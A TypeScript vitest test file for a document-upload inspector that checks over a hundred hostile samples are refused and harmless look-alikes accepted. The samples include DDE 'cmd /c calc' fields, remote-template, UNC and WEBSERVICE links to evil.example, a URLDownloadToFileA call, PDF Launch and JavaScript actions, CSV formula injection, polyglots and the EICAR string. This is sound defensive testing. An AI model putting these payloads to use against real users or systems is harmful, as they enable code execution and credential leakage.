import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../src/documents/accept.ts';
import type { DocumentFault } from '../../src/domain/refusal.ts';

/** What an attacker sends as a document, built here, each with what it is refused for. */

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const TYPES =
  '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const SHEETS = TYPES.replace('wordprocessingml.document', 'spreadsheetml.sheet');
const W = 'xmlns:w="w" xmlns:o="o" xmlns:v="v" xmlns:r="r" xmlns:xlink="xlink" xmlns:a="a" xmlns:text="text"';
const EICAR = ['X5O!P%@AP[4', String.raw`\PZX54(P^)7CC)7}$EICAR-STANDARD`, '-ANTIVIRUS-TEST-FILE!$H+H*'].join(
  '',
);

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

type Parts = Record<string, string | Uint8Array>;
async function zipped(parts: Parts): Promise<Buffer> {
  const zip = new JSZip();
  for (const [name, part] of Object.entries(parts)) zip.file(name, part);
  return zip.generateAsync({ type: 'nodebuffer' });
}
const docx = (parts: Parts) =>
  zipped({ '[Content_Types].xml': TYPES, 'word/document.xml': '<d/>', ...parts });
const xlsx = (parts: Parts) => zipped({ '[Content_Types].xml': SHEETS, 'xl/workbook.xml': '<d/>', ...parts });
const odt = (content: string) =>
  zipped({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<office:document-content xmlns:office="o" xmlns:draw="d" ${W}>${content}</office:document-content>`,
  });
const body = (content: string) => docx({ 'word/document.xml': `<w:document ${W}>${content}</w:document>` });
const code = (text: string) => `<w:instrText>${text}</w:instrText>`;
const field = (inside: string) =>
  body(`<w:fldChar w:fldCharType="begin"/>${inside}<w:fldChar w:fldCharType="end"/>`);
const related = (type: string, target: string, mode = 'TargetMode="External"') =>
  docx({
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r1" Type="${REL}/${type}" Target="${target}" ${mode}/></Relationships>`,
  });
const sheet = (formula: string) => xlsx({ 'xl/worksheets/sheet1.xml': `<s><c><f>${formula}</f></c></s>` });

/** A PDF of these objects, from the second on; the first is its catalogue, of which this is the inside. */
const pdf = (catalogue: string, objects: (string | Buffer)[] = [], trailer = '') =>
  Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R ${catalogue}>>\nendobj\n`, 'latin1'),
    ...objects.map((object, i) =>
      Buffer.concat([Buffer.from(`${i + 2} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]),
    ),
    Buffer.from(`trailer\n<</Root 1 0 R ${trailer}>>\n%%EOF\n`, 'latin1'),
  ]);
const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
const SCRIPT = '<</S /JavaScript /JS (app.alert(1))>>';
/** An object stream of one object, numbered 9. */
type Packing = { type?: string; pack?: (bytes: Buffer) => Buffer; filter?: string };
/** Packed by Flate with a byte before each other, which a reader that is told so leaves out again. */
const apart = (bytes: Buffer) => deflateSync(Buffer.from([...bytes].flatMap((byte) => [0, byte])));
const twice = (bytes: Buffer) => deflateSync(`${bytes.toString('hex')}>`.replaceAll(/../g, '$& '));
const PARMS = '/DecodeParms<</Predictor 12/Columns 1>>';
const objectStream = (
  object: string,
  { type = '/Type/ObjStm', pack = (bytes) => deflateSync(bytes), filter = 'FlateDecode' }: Packing = {},
) => {
  const packed = pack(Buffer.from(`9 0 ${object}`));
  return Buffer.concat([
    Buffer.from(`<<${type}/N 1/First 4/Filter/${filter}/Length ${packed.byteLength}>>\nstream\r\n`),
    packed,
    Buffer.from('\nendstream'),
  ]);
};
const link = (address: string) => pdf('', [`<</Type/Annot/Subtype/Link/A<</S/URI/URI ${address}>>>>`]);

const HOSTILE: [name: string, made: () => Promise<Buffer> | Buffer, fault: DocumentFault][] = [
  ['dde.docx', () => field(code('DDE cmd "/c calc"')), 'dde'],
  ['ddeauto.docx', () => field(code(' ddeauto c:\\\\windows\\\\cmd.exe')), 'dde'],
  ['pieces.docx', () => field(code('D') + code('DEAU') + code('TO cmd')), 'dde'],
  ['simple.docx', () => body('<w:fldSimple w:instr=" DDEAUTO cmd "/>'), 'dde'],
  ['bare.docx', () => body(code('DDEAUTO cmd')), 'dde'],
  [
    'quoted.docx',
    () =>
      field(`<w:fldChar w:fldCharType="begin"/>${code('QUOTE 68 68 69')}<w:fldChar w:fldCharType="end"/>`),
    'dde',
  ],
  ['entity.docx', () => field(code('&#68;DE cmd')), 'dde'],
  ['cdata.docx', () => field('<w:instrText><![CDATA[DDE cmd]]></w:instrText>'), 'dde'],
  ['picture-unc.docx', () => field(code('INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png"')), 'external'],
  ['picture-http.docx', () => field(code('INCLUDEPICTURE "http://evil.example/x.png"')), 'external'],
  ['text-unc.docx', () => field(code('INCLUDETEXT "\\\\\\\\evil.example\\\\x.docx"')), 'external'],
  ['link.docx', () => field(code('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls"')), 'external'],
  ['click-file.docx', () => field(code('HYPERLINK "file://evil.example/x"')), 'external'],
  ['click-unc.docx', () => field(code('HYPERLINK "\\\\\\\\evil.example\\\\x"')), 'external'],
  ['embed.docx', () => field(code('EMBED Package')), 'embedded'],
  ['chunk.docx', () => body('<w:altChunk r:id="r1"/>'), 'embedded'],
  ['chunk-part.docx', () => related('aFChunk', 'afchunk.htm', ''), 'embedded'],
  ['ole.docx', () => body('<w:object><o:OLEObject ProgID="Package"/></w:object>'), 'embedded'],
  ['ole-part.docx', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'embedded'],
  ['ole-related.docx', () => related('oleObject', 'embeddings/x.bin', ''), 'embedded'],
  ['template.docx', () => related('attachedTemplate', 'file://evil.example/t.dotm'), 'external'],
  ['typed-file.docx', () => related('hyperlink', 'file://evil.example/share'), 'external'],
  ['typed-unc.docx', () => related('hyperlink', '\\\\evil.example\\share'), 'external'],
  ['typed-script.docx', () => related('hyperlink', 'javascript:alert(1)'), 'external'],
  ['typed-ms.docx', () => related('hyperlink', 'ms-msdt:/id'), 'external'],
  ['frame.docx', () => related('frame', 'http://evil.example'), 'external'],
  ['inside-out.docx', () => related('image', 'http://evil.example/x.png', ''), 'external'],
  [
    'prefixed.docx',
    () =>
      docx({
        'word/_rels/document.xml.rels': `<p:Relationships xmlns:p="p"><p:Relationship Type="${REL}/image" Target="//evil" TargetMode=" external "/></p:Relationships>`,
      }),
    'external',
  ],
  ['vml.docx', () => body('<v:imagedata src="http://evil.example/x.png"/>'), 'external'],
  ['svg.docx', () => docx({ 'word/media/a.svg': '<svg><image href="//evil.example/x"/></svg>' }), 'external'],
  ['program.docx', () => body('<a:hlinkClick action="ppaction://program"/>'), 'macros'],
  ['control.docx', () => related('control', 'x.xml', ''), 'macros'],
  [
    'doctype.docx',
    () => docx({ 'word/document.xml': '<!DOCTYPE d [<!ENTITY a "b">]><d>&a;</d>' }),
    'damaged',
  ],
  ['entity-own.docx', () => docx({ 'word/document.xml': '<d>&own;</d>' }), 'damaged'],
  ['utf7.docx', () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><d/>' }), 'damaged'],
  ['open.docx', () => docx({ 'word/document.xml': '<d><e></d>' }), 'damaged'],
  ['deep.docx', () => docx({ 'word/document.xml': '<d>'.repeat(100_000) }), 'damaged'],
  ['deep-closed.docx', () => body(`${'<a>'.repeat(600)}${'</a>'.repeat(600)}`), 'damaged'],
  [
    'ddelink.xlsx',
    () => xlsx({ 'xl/externalLinks/externalLink1.xml': '<e><ddeLink ddeService="cmd"/></e>' }),
    'dde',
  ],
  ['outside.docx', () => docx({ '../../../x': 'x' }), 'damaged'],
  ['rooted.docx', () => docx({ '/etc/x': 'x' }), 'damaged'],
  ['drive.docx', () => docx({ 'C:\\x': 'x' }), 'damaged'],
  [
    'attributes.docx',
    () => body(`<a ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
    'damaged',
  ],
  ['film.docx', () => body('<wp15:webVideoPr xmlns:wp15="wp" embeddedHtml="&lt;iframe/&gt;"/>'), 'external'],
  [
    'pane.docx',
    () =>
      docx({ 'word/webextensions/taskpanes.xml': '<p:taskpanes xmlns:p="p"><p:taskpane/></p:taskpanes>' }),
    'external',
  ],
  [
    'added.docx',
    () => docx({ 'word/webextensions/a.xml': '<p:webextension xmlns:p="p" store="\\\\evil"/>' }),
    'external',
  ],
  ['ribbon.docx', () => docx({ 'customUI/customUI.xml': '<customUI onLoad="x"/>' }), 'macros'],
  ['script.docx', () => docx({ 'word/media/a.svg': '<svg><script>1</script></svg>' }), 'macros'],
  ['script.odt', () => odt('<office:scripts><office:script/></office:scripts>'), 'macros'],
  ['spaced.xlsx', () => sheet('WEBSERVICE ("http://evil.example")'), 'external'],
  ['sql.xlsx', () => sheet('SQL.REQUEST("DSN=x","","SELECT 1")'), 'external'],
  ['share.xlsx', () => sheet("'\\\\evil.example\\[x.xlsx]S'!A1"), 'external'],
  ['click.xlsx', () => sheet('HYPERLINK( "file://evil.example/x","x")'), 'external'],
  ...['formula', 'formula1', 'formula2', 'calculatedColumnFormula'].map((name): (typeof HOSTILE)[number] => [
    `${name}.xlsx`,
    () => xlsx({ 'xl/worksheets/sheet1.xml': `<s><${name}>WEBSERVICE("http://a")</${name}></s>` }),
    'external',
  ]),
  [
    'query.xlsx',
    () => xlsx({ 'customXml/item1.xml': '<DataMashup xmlns="m">AAAA</DataMashup>' }),
    'external',
  ],
  ['cmd.xlsx', () => sheet("cmd|'/c calc'!A0"), 'dde'],
  ['web.xlsx', () => sheet('_xlfn.WEBSERVICE("http://evil.example")'), 'external'],
  ['rtd.xlsx', () => sheet('1+rtd("x",,"y")'), 'external'],
  ['call.xlsx', () => sheet('CALL("urlmon","URLDownloadToFileA")'), 'macros'],
  [
    'connections.xlsx',
    () =>
      xlsx({ 'xl/connections.xml': '<connections><connection id="1"><dbPr/></connection></connections>' }),
    'external',
  ],
  ['query.docx', () => body('<w:connectString w:val="Provider=x"/>'), 'external'],
  ['oleobj.odt', () => odt('<draw:object-ole xlink:href="./Object 1"/>'), 'embedded'],
  ['applet.odt', () => odt('<draw:applet/>'), 'embedded'],
  ['dde.odt', () => odt('<text:dde-connection-decl office:dde-application="soffice"/>'), 'dde'],
  ['file.odt', () => odt('<text:a xlink:href="file://evil.example/x">x</text:a>'), 'external'],
  ['macro.odt', () => odt('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'), 'macros'],
  ['image.odt', () => odt('<draw:image xlink:href="https://evil.example/x.png"/>'), 'external'],
  ['function.odt', () => odt('<text:p text:formula="of:=WEBSERVICE(&quot;x&quot;)"/>'), 'external'],
  ['equals.csv', () => Buffer.from('a,b\n1,=1+1\n'), 'formula'],
  ['plus.csv', () => Buffer.from('+cmd\n'), 'formula'],
  ['minus.csv', () => Buffer.from('a;-2+cmd\n'), 'formula'],
  ['at.csv', () => Buffer.from('a\t@SUM(1)\n'), 'formula'],
  ['quoted.csv', () => Buffer.from('a,"=1+1"\n'), 'formula'],
  ['tab.csv', () => Buffer.from('a,"\t=1+1"\n'), 'formula'],
  ['return.csv', () => Buffer.from('a\r=1+1'), 'formula'],
  ['mark.csv', () => Buffer.from('\uFEFF=1+1'), 'formula'],
  ['wide.csv', () => Buffer.from('a,＝1+1\n'), 'formula'],
  ['wide-at.csv', () => Buffer.from('＠SUM(1)\n'), 'formula'],
  ['wide-plus.csv', () => Buffer.from('a;＋1+cmd\n'), 'formula'],
  ['parted.csv', () => Buffer.from('sep=^\na^=1+1\n'), 'formula'],
  ['parted-quoted.csv', () => Buffer.from('\uFEFF"sep=x"\nax=1+1\n'), 'formula'],
  ['nothing-quoted.csv', () => Buffer.from('a,""=1+1\n'), 'formula'],
  ['sign-quoted.csv', () => Buffer.from('a,"-"2+cmd\n'), 'formula'],
  ['indented.csv', () => Buffer.from('a, \u00a0=1+1\n'), 'formula'],
  ['unseen.csv', () => Buffer.from('a,\u200b=1+1\n'), 'formula'],
  ['latin.csv', () => Buffer.from('a,\u00a0=1+1\n', 'latin1'), 'formula'],
  ['sylk.csv', () => Buffer.from('ID;P\nC;Y1;X1;EEXEC("calc")\nE\n'), 'disguised'],
  ['sylk.txt', () => Buffer.from('ID;PWXL;N;E\n'), 'disguised'],
  ['eicar.txt', () => Buffer.from(EICAR), 'malware'],
  ['launch.pdf', () => pdf(`/OpenAction ${LAUNCH}`), 'active'],
  ['script.pdf', () => pdf('/OpenAction 2 0 R', [SCRIPT]), 'active'],
  ['named-script.pdf', () => pdf(`/Names<</JavaScript<</Names[(a) 2 0 R]>>>>`, [SCRIPT]), 'active'],
  ['spelt.pdf', () => pdf('', ['<</#53/J#61vaScript/JS(1)>>']), 'active'],
  ['remark.pdf', () => pdf('', ['<</S %(\n  % >>\r /Launch>>']), 'active'],
  ['far.pdf', () => pdf('', [`<</S %${'a'.repeat(10_000)}\n/Launch>>`]), 'damaged'],
  ['elsewhere.pdf', () => pdf('', ['<</S 3 0 R/JS(1)>>', '/JavaScript']), 'active'],
  ['in-string.pdf', () => pdf('', [`(a string in which 7 0 obj ${SCRIPT} endobj begins)`]), 'active'],
  ['in-stream.pdf', () => pdf('', [`<</Length 99>>\nstream\n7 0 obj ${LAUNCH} endobj\nendstream`]), 'active'],
  ['packed.pdf', () => pdf('/OpenAction 9 0 R', [objectStream(SCRIPT)]), 'active'],
  ['packed-launch.pdf', () => pdf('', [objectStream(LAUNCH)]), 'active'],
  ['untyped.pdf', () => pdf('', [objectStream(SCRIPT, { type: '' })]), 'active'],
  [
    'cut.pdf',
    () =>
      pdf('', [
        objectStream(`${SCRIPT}${'x'.repeat(500)}`, { pack: (bytes) => deflateSync(bytes).subarray(0, -4) }),
      ]),
    'damaged',
  ],
  [
    'packed-otherwise.pdf',
    () =>
      pdf('', [
        objectStream(SCRIPT, { filter: 'ASCIIHexDecode', pack: (b) => Buffer.from(`${b.toString('hex')}>`) }),
      ]),
    'damaged',
  ],
  ['bytes-apart.pdf', () => pdf('', [objectStream(SCRIPT, { type: PARMS, pack: apart })]), 'damaged'],
  [
    'bytes-apart-spelt.pdf',
    () => pdf('', [objectStream(SCRIPT, { type: PARMS.replace('Dec', '#44ec'), pack: apart })]),
    'damaged',
  ],
  [
    'bytes-apart-remark.pdf',
    () => pdf('', [objectStream(SCRIPT, { type: `${PARMS}%3 0 obj<<\n`, pack: apart })]),
    'damaged',
  ],
  [
    'bytes-apart-string.pdf',
    () => pdf('', [objectStream(SCRIPT, { type: `${PARMS}/X(\n3 0 obj<<)`, pack: apart })]),
    'damaged',
  ],
  [
    'packed-twice.pdf',
    () => pdf('', [objectStream(SCRIPT, { filter: '[/FlateDecode/ASCIIHexDecode]', pack: twice })]),
    'damaged',
  ],
  ['bytes-elsewhere.pdf', () => pdf('', ['<</F(http://evil.example/x)/FFilter/FlateDecode>>']), 'external'],
  ['model.pdf', () => pdf('', ['<</Subtype/3D/OnInstantiate 3 0 R>>']), 'active'],
  ['film.pdf', () => pdf('', ['<</Subtype /Movie/Movie<</F(http://evil.example)>>>>']), 'active'],
  ['program.pdf', () => pdf('', ['<</Type/XObject/Subtype/PS>>']), 'active'],
  ['bomb.pdf', () => pdf('', [objectStream(' '.repeat(101 * 1024 * 1024))]), 'bomb'],
  ['attached.pdf', () => pdf('/Names<</EmbeddedFiles 2 0 R>>'), 'embedded'],
  ['pinned.pdf', () => pdf('', ['<</Subtype/FileAttachment/FS 3 0 R>>']), 'embedded'],
  ['specified.pdf', () => pdf('', ['<</F(a.exe)/EF<</F 3 0 R>>>>']), 'embedded'],
  ['go-inside.pdf', () => pdf('', ['<</S/GoToE/T<</R/C>>>>']), 'embedded'],
  ['go-elsewhere.pdf', () => pdf('', ['<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>']), 'external'],
  ['submit.pdf', () => pdf('', ['<</S/SubmitForm/F(http://evil.example)>>']), 'active'],
  ['by-itself.pdf', () => pdf('/AA<</WC 2 0 R>>', ['<</S/Named/N/Print>>']), 'active'],
  ['xfa.pdf', () => pdf('/AcroForm<</XFA[(a) 2 0 R]>>'), 'active'],
  ['opens.pdf', () => pdf('/OpenAction 2 0 R', ['<</S/URI/URI(http://evil.example)>>']), 'active'],
  ['opens-at-once.pdf', () => pdf('/OpenAction<</S/URI/URI(http://evil.example)>>'), 'active'],
  ['opens-packed.pdf', () => pdf('/OpenAction 9 0 R', [objectStream('<</S/URI/URI(http://a)>>')]), 'active'],
  ['file.pdf', () => link('(file://evil.example/x)'), 'external'],
  ['unc.pdf', () => link('(\\\\\\\\evil.example\\\\x)'), 'external'],
  ['hex.pdf', () => link('<66696c653a2f2f78>'), 'external'],
  ['octal.pdf', () => link('(\\152avascript:1)'), 'external'],
  ['stream-of.pdf', () => pdf('', ['<</FS/URL/F(http://evil.example/x)>>']), 'external'],
  ['encrypted.pdf', () => pdf('', ['<</Filter/Standard>>'], '/Encrypt 2 0 R'), 'protected'],
  ['page-first.pdf', () => Buffer.concat([Buffer.from('<html><script>1</script>'), pdf('')]), 'disguised'],
  ['archive-too.pdf', async () => Buffer.concat([pdf(''), await zipped({ 'a.exe': 'MZ' })]), 'disguised'],
  [
    'archive-remark.pdf',
    async () => {
      const [start, zip] = [pdf(''), await zipped({ 'a.exe': 'MZ' })];
      zip.writeUInt16LE(start.length, zip.length - 2);
      return Buffer.concat([start, zip, start]);
    },
    'disguised',
  ],
  ['archive-too.png', async () => Buffer.concat([PNG, await zipped({ 'a.exe': 'MZ' })]), 'disguised'],
  ['page.txt', () => Buffer.from('\n<!DOCTYPE html><script>1</script>'), 'disguised'],
  ['eicar.docx', () => docx({ 'word/media/a.bin': `${'a'.repeat(70_000)}${EICAR}` }), 'malware'],
  ['program.docx', () => docx({ 'word/media/a.png': 'MZ\u0090' }), 'embedded'],
  ['rar.docx', () => docx({ 'word/media/a.png': 'Rar!\u001a\u0007\u0000' }), 'embedded'],
  ['table.docx', async () => docx({ 'word/embeddings/t.xlsx': await sheet('CALL("urlmon","x")') }), 'macros'],
  [
    'deeper.docx',
    async () => docx({ 'word/embeddings/t.xlsx': await xlsx({ 'xl/a.zip': await zipped({ a: 'b' }) }) }),
    'embedded',
  ],
  ['picture.docx', () => docx({ 'word/media/a.pdf': pdf('', [SCRIPT]) }), 'active'],
  ['eicar-later.csv', () => Buffer.from(`${'a,b\n'.repeat(20_000)}${EICAR}`), 'malware'],
];

const inspect = (name: string, bytes: Buffer) => inspectBytes(name, () => Readable.from([bytes]));

describe('hostile documents', () => {
  it('are a hundred at least', () => expect(HOSTILE.length).toBeGreaterThanOrEqual(100));

  it.each(HOSTILE)('%s is refused', async (name, made, why) => {
    await expect(inspect(name, await made())).rejects.toMatchObject({
      refusal: { code: 'DocumentRefused', why },
    });
  });

  it.each([
    ['quotes', '<Relationships><Relationship '.padEnd(200_000, `"'`)],
    ['closed quotes', '<Relationships><Relationship '.padEnd(200_000, '""')],
    ['spaces', '<Relationships><Relationship '.padEnd(200_000, ' a')],
    ['tags', '<Relationships>'.padEnd(200_000, '<Relationship ')],
  ])('a list of relationships of %s without an end takes no time', async (_, list) => {
    const file = await docx({ 'word/_rels/document.xml.rels': list });
    const started = process.cpuUsage();
    await expect(inspect('a.docx', file)).rejects.toMatchObject({ refusal: { why: 'damaged' } });
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(3_000);
  });
});

describe('a PDF made to take long', () => {
  const MB = 1024 * 1024;
  it.each([
    ['slashes', '/'],
    ['actions', '/S '],
    ['remarks', '/S%'],
    ['addresses', '/S/URI '],
    ['streams that begin nowhere', '/ObjStm '],
    ['numbers', '/S 1 '],
  ])('of %s takes no time', async (_, piece) => {
    const file = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(2 * MB, piece)]);
    const started = process.cpuUsage();
    await inspect('a.pdf', file).catch(() => {});
    expect(process.cpuUsage(started).user / 1_000).toBeLessThan(4_000);
  });
});

describe('what is like it and harmless', () => {
  it.each<[string, () => Promise<Buffer> | Buffer]>([
    ['click.docx', () => related('hyperlink', 'https://oas.example/x')],
    ['write.docx', () => related('hyperlink', 'mailto:ana@oas.example')],
    ['fields.docx', () => field(code('PAGE \\* MERGEFORMAT'))],
    ['contents.docx', () => field(code('HYPERLINK \\l "_Toc1"'))],
    ['address.docx', () => field(code('HYPERLINK "https://oas.example"'))],
    ['sum.xlsx', () => sheet('SUM(A1:A3)')],
    ['click.xlsx', () => sheet('HYPERLINK("https://oas.example","x")')],
    ['link.odt', () => odt('<text:a xlink:href="https://oas.example">x</text:a>')],
    ['words.pdf', () => pdf('/OpenAction[2 0 R/Fit]', ['(/Launch and https://a.example/JavaScript)'])],
    [
      'start.pdf',
      () => pdf('/OpenAction 9 0 R', [objectStream('<</S/GoTo/D[2 0 R/Fit]>>'), '<</S/URI/URI(http://a)>>']),
    ],
    ['click.pdf', () => link('(https://oas.example)')],
    ['write.pdf', () => link('<6d61696c746f3a616e61406f61732e6578616d706c65>')],
    [
      'outlines.pdf',
      () => pdf('/Outlines 2 0 R', ['<</First 3 0 R/Last 3 0 R>>', '<<>>\nstream\nq Q\nendstream']),
    ],
    ['chart.docx', async () => docx({ 'word/embeddings/t.xlsx': await sheet('SUM(A1:A3)') })],
    ['picture.docx', () => docx({ 'word/media/a.pdf': pdf(''), 'word/media/b.png': PNG })],
    ['angle.txt', () => Buffer.from('<ana@oas.example> escribió:')],
    ['dashes.csv', () => Buffer.from('\uFEFFtema,nota\n"a, ""b""", - después\nsep=,x\n')],
    ['figures.csv', () => Buffer.from('país;fecha;tel\nPerú;-3,5;+51 1 630-6000\n"a=b";"Lima, Perú";-\n')],
  ])('%s is taken', async (name, made) => {
    await expect(inspect(name, await made())).resolves.toBeUndefined();
  });
});
